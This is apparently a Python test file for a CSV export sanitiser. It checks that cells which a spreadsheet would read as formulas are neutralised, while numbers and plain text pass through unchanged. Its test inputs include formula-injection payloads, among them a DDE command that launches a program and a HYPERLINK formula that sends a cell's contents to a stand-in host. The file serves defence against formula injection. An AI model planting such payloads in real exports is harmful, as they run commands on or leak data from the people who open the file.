"""No cell of an export can be a formula, however a spreadsheet cuts the file into cells."""

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.tables import csv_lines, safe, write_csv

# What a spreadsheet would calculate, look up or send away.
FORMULA = re.compile(r"""[\s"'“”„\u200b\ufeff]*?[=+\-@＝＋－＠]""")
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?%?")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("http://x.example/?"&A1,"here")',
        "=cmd|'/c calc'!A0",
        " =1+1",
        '"=1+1"',
        "'=1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\tplain",
        "\rplain",
        "＝1+1",
        "\ufeff=1+1",
        "-",
    ],
)
def test_formula_becomes_text(text: str) -> None:
    assert str(safe(text)).startswith("'")
    assert str(safe(text)).endswith(text.lstrip("\t\r\n \"'\ufeff"))


@pytest.mark.parametrize("text", ["so sorry; =1+1", "a\tb\t@x", "first\n=1+1", "a|+1"])
def test_formula_inside_a_cell_is_text_where_a_spreadsheet_cuts_it(text: str) -> None:
    assert FORMULA.match(re.split(r"[;\t\n|]", str(safe(text)))[-1].lstrip(" ")[1:])
    assert "'" in str(safe(text))


@pytest.mark.parametrize(
    "text", ["It’s late, I know - sorry.", "a=b", "mail@example.org", "5-6", ""]
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("value", [3, -2.5, 0, "-12.50", "+5%", "7,25"])
def test_number_stays_a_number(value: object) -> None:
    assert safe(value) == value


def test_nothing_is_an_empty_cell() -> None:
    assert safe(None) == ""


texts = st.text(
    st.one_of(st.sampled_from("=+-@\t\r\n;,|\"' a1＝\x85\u2028"), st.characters(codec="utf-8")),
    max_size=25,
)


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(rows=st.lists(st.tuples(texts, texts), min_size=1, max_size=3))
def test_no_cell_begins_a_formula_whatever_the_separator(
    delimiter: str, rows: list[tuple[str, str]]
) -> None:
    lines = "".join(csv_lines(("a", "b"), rows)).splitlines(keepends=True)
    for row in csv.reader(lines, delimiter=delimiter):
        for cell in row:
            bare = cell.strip()
            assert NUMBER.fullmatch(bare) or not bare.startswith(tuple("=+-@＝＋－＠")), row


def test_own_separator_gives_the_text_back(tmp_path: Path) -> None:
    cells = ["Zoë’s “reply”, 10 €", "two\nlines", 'say "no"', "12"]
    write_csv(tmp_path / "t.csv", ["a", "b", "c", "d"], [cells])
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["a", "b", "c", "d"], cells]


def test_excel_is_told_that_it_is_utf_8(tmp_path: Path) -> None:
    write_csv(tmp_path / "t.csv", ["a"], [["é"]], excel=True)
    assert (tmp_path / "t.csv").read_bytes().startswith(b'\xef\xbb\xbf"a"')


def test_long_runs_of_blanks_take_no_time() -> None:
    # In steps by the square of its length this would run for minutes.
    assert safe("a" + "\t" * 200_000) == "a" + "\t" * 200_000
    assert safe("a" + " ;" * 100_000) == "a" + " ;" * 100_000
